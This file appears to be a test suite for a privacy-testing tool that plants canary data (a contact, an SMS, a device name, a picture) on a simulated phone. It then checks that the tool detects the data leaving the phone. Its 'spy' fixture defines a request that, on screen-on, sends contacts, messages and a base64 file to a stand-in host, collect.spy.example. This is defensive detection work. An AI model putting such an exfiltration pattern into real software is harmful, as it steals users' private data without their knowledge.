import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Emission } from '../../lab/model/emission.ts';
import type { Result } from '../../lab/model/result.ts';
import { linesOf, readRunFile } from './documents.ts';
import {
  deviceOf,
  documentOf,
  type Emit,
  type Ended,
  firmwareOf,
  openRig,
  phoneOf,
  type Rig,
} from './rig.ts';

const contact = '+4791200451';
const message = 'The canary sings at 4711 o’clock';
const name = 'Canary Nest 4711';

/** A picture of 6,000 bytes that are everywhere different, as pictures are. */
const picture = Buffer.concat(
  Array.from({ length: 188 }, (_, index) => createHash('sha256').update(`picture ${index}`).digest()),
);

const spy: Emit = {
  name: 'spy',
  from: 'com.rig.spy',
  on: ['screen-on'],
  delay: '100ms',
  request: {
    method: 'POST',
    url: 'https://collect.spy.example/v1',
    headers: { 'Content-Type': 'application/json' },
    body: {
      json: {
        contacts: [{ tel: '{{contact:phone}}' }],
        last: { text: '{{sms}}' },
        host: '{{device-name}}',
        thumb: '{{file|base64}}',
      },
    },
    encode: ['gzip'],
  },
};

describe('Canaries on a phone', () => {
  let rig: Rig;
  let ended: Ended;
  let result: Result;

  before('a build that takes what a person has on the phone', async function () {
    this.timeout(90_000);
    rig = await openRig();
    await mkdir(rig.path('phones'));
    await writeFile(rig.path('phones', 'nest.jpg'), picture);
    const phone = deviceOf(phoneOf(5));
    const identifiers = [
      ...phone.identifiers,
      { kind: 'contact', value: contact, label: 'phone' },
      { kind: 'sms', value: message },
      { kind: 'device-name', value: name },
      { kind: 'file', path: 'nest.jpg' },
    ];
    const device = await rig.write(join('phones', 'phone.yaml'), { ...phone, identifiers });
    const firmware = await rig.write('spying.yaml', firmwareOf('spying', [spy]));
    const plan = ['--scenario', 'screen-on', '--repeat', '1', '--dwell', '1s', '--json'];
    const files = ['--firmware', firmware, '--device', device, '--out', rig.path('run')];
    ended = await rig.phonehome(['run', ...files, ...plan]);
    result = documentOf<Result>(ended);
  });

  after(() => rig.close());

  it('are found when they leave it', async () => {
    assert.equal(ended.exit, 3, ended.stderr);
    const emissions = await linesOf<Emission>(rig.path('run'), 'derived', 'emissions.jsonl');
    const kinds = emissions
      .filter(({ trigger, recipient }) => trigger === 'screen-on' && recipient.host === 'collect.spy.example')
      .map(({ identifier, place }) => `${identifier} in ${place}`);
    assert.deepEqual([...new Set(kinds)].sort(), [
      'contact in body/contacts[].tel',
      'device-name in body/host',
      'file in body/thumb',
      'sms in body/last.text',
    ]);
  });

  it('were put there by the lab, which says so', async () => {
    const { notes = [] } = await readRunFile(rig.path('run'));
    assert.match(
      notes.join('\n'),
      /the canaries contact \(phone\), sms, device-name, file are on it and were read back/,
    );
    assert.match(result.coverage.notes.join('\n'), /the canaries contact \(phone\), sms/);
    assert.match(result.coverage.notes.join('\n'), /automatic updates of the system are off/);
    const told = `${JSON.stringify(await readRunFile(rig.path('run')))}${ended.stderr}`;
    for (const value of [contact, message, name]) assert.ok(!told.includes(value));
  });

  it('are found again where the picture itself is gone, from the copy in the run', async () => {
    const kept = rig.path(
      'run',
      'canaries',
      createHash('sha256').update('nest.jpg').digest('hex').slice(0, 16),
    );
    assert.deepEqual(await readFile(kept), picture);
    assert.equal((await stat(kept)).mode & 0o077, 0);
    await rm(rig.path('phones', 'nest.jpg'));
    const before = await readFile(rig.path('run', 'derived', 'emissions.jsonl'), 'utf8');
    await rig.phonehome(['analyze', rig.path('run')]);
    assert.equal(await readFile(rig.path('run', 'derived', 'emissions.jsonl'), 'utf8'), before);
  });
});
